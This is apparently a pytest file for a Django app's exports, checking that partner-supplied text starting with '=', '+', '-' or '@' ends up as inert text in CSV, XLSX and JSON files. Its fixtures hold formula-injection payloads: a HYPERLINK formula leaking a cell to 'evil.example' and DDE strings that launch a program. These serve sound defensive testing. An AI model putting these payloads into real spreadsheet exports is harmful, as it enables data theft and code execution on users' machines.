"""Formula injection (issue 16, item 5): a partner's text is never a live spreadsheet formula.

A summary, a title or an organisation name starting with = + - @ (or a tab) is text in every
export: the public open-data files and list exports (CSV, XLSX, JSON) and the staff's admin
export (XLSX, CSV). In CSV it gets a leading apostrophe and the public CSV quotes every field,
so that a spreadsheet splitting lines on ";" (French Excel) never cuts a field into a new cell
starting with "="; in XLSX it is a string cell, not a formula. Numbers stay numbers.
"""

import csv
import io
import json
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from teritoire.text import FORMULA_TRIGGERS, spreadsheet_text, unescape_spreadsheet_text
from tests.actions.factories import ActionFactory, FundingFactory
from tests.partners.factories import OrganisationFactory, StaffFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'
SPLIT = "Diagnostic;=1+1"  # a ';' then a formula: French Excel would make it a cell of its own
FORMULAS = {
    "summary": HYPERLINK,
    "title": "+cmd|' /C calc'!A0",
    "partner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "funder": "-2+3+cmd|' /C calc'!A0",
}
STAFF_XLSX, STAFF_CSV = "0", "1"


@pytest.fixture
def hostile_action():
    partner = OrganisationFactory(name=FORMULAS["partner"], acronym="")
    funder = OrganisationFactory(name=FORMULAS["funder"], acronym="")
    action = ActionFactory(
        code="1.1",
        title=FORMULAS["title"],
        summary=FORMULAS["summary"],
        partners=[partner],
        is_public=True,
    )
    FundingFactory(action=action, funder=funder, year=2024, planned_amount=Decimal("12500.50"))
    ActionFactory(code="1.2", title="Autre", summary=SPLIT, is_public=True)
    return action


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells_as_a_semicolon_spreadsheet_reads(line):
    """The cells of a CSV line for a spreadsheet that takes ';' as the separator: each quote
    opens or closes a quoted stretch, a ';' outside one ends the cell."""
    cells, current, quoted = [], [], False
    for char in line:
        if char == '"':
            quoted = not quoted
        elif char == ";" and not quoted:
            cells.append("".join(current))
            current = []
        else:
            current.append(char)
    cells.append("".join(current))
    return cells


def assert_no_live_cell(cells):
    live = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert not live, live


class TestTheTextRule:
    @pytest.mark.parametrize("text", [*FORMULAS.values(), "=1+1", "\t=1", "\r=1", "-1+1"])
    def test_a_formula_gets_an_apostrophe_and_reads_back(self, text):
        assert spreadsheet_text(text) == "'" + text
        assert unescape_spreadsheet_text(spreadsheet_text(text)) == text

    @pytest.mark.parametrize("number", ["-12,50", "-1.5", "+3", "-7", "12500.50"])
    def test_a_number_stays_a_number(self, number):
        assert spreadsheet_text(number) == number

    def test_plain_text_is_unchanged(self):
        assert spreadsheet_text("Plateforme RH ; recrutement") == "Plateforme RH ; recrutement"


@pytest.mark.parametrize(
    "url_name", ["actions:data_actions_csv", "actions:data_fundings_csv", "actions:export_csv"]
)
class TestPublicCsv:
    def test_no_field_is_a_formula(self, client, hostile_action, url_name):
        rows = list(csv.reader(io.StringIO(body(client.get(reverse(url_name))).decode())))
        assert len(rows) > 1
        for row in rows:
            assert_no_live_cell(row)

    def test_a_semicolon_spreadsheet_never_splits_a_field(self, client, hostile_action, url_name):
        text = body(client.get(reverse(url_name))).decode()
        for line in text.splitlines():
            assert_no_live_cell(cells_as_a_semicolon_spreadsheet_reads(line))
            assert line.startswith('"') and line.endswith('"')  # every field quoted


def test_public_csv_keeps_the_text_behind_its_apostrophe(client, hostile_action):
    text = body(client.get(reverse("actions:data_actions_csv"))).decode()
    by_code = {row["code"]: row for row in csv.DictReader(io.StringIO(text))}
    assert by_code["1.1"]["resume"] == "'" + HYPERLINK
    assert by_code["1.1"]["intitule"] == "'" + FORMULAS["title"]
    assert by_code["1.1"]["partenaires"] == "'" + FORMULAS["partner"]
    assert by_code["1.2"]["resume"] == SPLIT
    assert by_code["1.1"]["budget_prevu_total"] == "12500.50"  # a number, no apostrophe


@pytest.mark.parametrize("url_name", ["actions:data_actions_xlsx", "actions:export_xlsx"])
def test_public_xlsx_text_cells_are_strings_and_numbers_numbers(client, hostile_action, url_name):
    book = openpyxl.load_workbook(io.BytesIO(body(client.get(reverse(url_name)))))
    sheet = book["Actions"]
    headers = [cell.value for cell in sheet[1]]
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    for text in (HYPERLINK, FORMULAS["title"], FORMULAS["partner"]):
        assert cells[text].data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    budget = sheet.cell(row=2, column=headers.index("budget_prevu_total") + 1)
    assert budget.data_type == "n" and Decimal(str(budget.value)) == Decimal("12500.50")


def test_public_json_keeps_the_text_as_it_is(client, hostile_action):
    document = json.loads(body(client.get(reverse("actions:data_actions_json"))))
    summaries = {action["code"]: action["resume"] for action in document["actions"]}
    assert summaries == {"1.1": HYPERLINK, "1.2": SPLIT}


class TestStaffExport:
    @pytest.fixture(autouse=True)
    def staff(self, client):
        client.force_login(StaffFactory())

    def export(self, client, file_format):
        response = client.post(reverse("admin:actions_action_export"), {"format": file_format,
                                                                      "resource": "0"})  # fmt: skip
        assert response.status_code == 200
        return body(response)

    def test_xlsx_has_no_formula_and_keeps_numbers(self, client, hostile_action):
        sheet = openpyxl.load_workbook(io.BytesIO(self.export(client, STAFF_XLSX))).active
        headers = [cell.value for cell in sheet[1]]
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        first = {h: cell for h, cell in zip(headers, sheet[2], strict=True)}
        assert first["Résumé"].value == HYPERLINK and first["Résumé"].data_type == "s"
        assert first["Intitulé"].value == FORMULAS["title"]
        assert first["Partenaires"].value == FORMULAS["partner"]
        assert first["Financeur"].value == FORMULAS["funder"]
        assert first["Montant prévu (€)"].data_type == "n"
        assert Decimal(str(first["Montant prévu (€)"].value)) == Decimal("12500.50")
        assert first["Date de début"].is_date

    def test_csv_has_no_formula_and_keeps_numbers(self, client, hostile_action):
        text = self.export(client, STAFF_CSV).decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
        for row in rows:
            assert_no_live_cell(row.values())
        first = rows[0]
        assert first["Résumé"] == "'" + HYPERLINK
        assert first["Financeur"] == "'" + FORMULAS["funder"]
        assert first["Montant prévu (€)"] == "12500,50"
        assert rows[1]["Résumé"] == SPLIT  # quoted by the CSV writer: ';' is its separator

    @pytest.mark.parametrize("file_format", [STAFF_XLSX, STAFF_CSV], ids=["xlsx", "csv"])
    def test_the_export_reimports_unchanged(self, client, hostile_action, file_format):
        content = self.export(client, file_format)
        extension = "xlsx" if file_format == STAFF_XLSX else "csv"
        response = client.post(
            reverse("admin:actions_action_import"),
            {"resource": "0", "format": file_format,
             "import_file": SimpleUploadedFile(f"export.{extension}", content)},
        )  # fmt: skip
        result = response.context["result"]
        assert not result.has_errors() and not result.has_validation_errors()
        assert [row.import_type for row in result.rows] == ["skip", "skip"]

    def test_the_import_template_lists_organisations_as_text(self, client):
        OrganisationFactory(name=HYPERLINK, acronym="")  # the only one: it heads the list
        url = reverse("admin:actions_action_import_template", args=["xlsx"])
        book = openpyxl.load_workbook(io.BytesIO(body(client.get(url))))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert HYPERLINK in [cell.value for cell in cells]
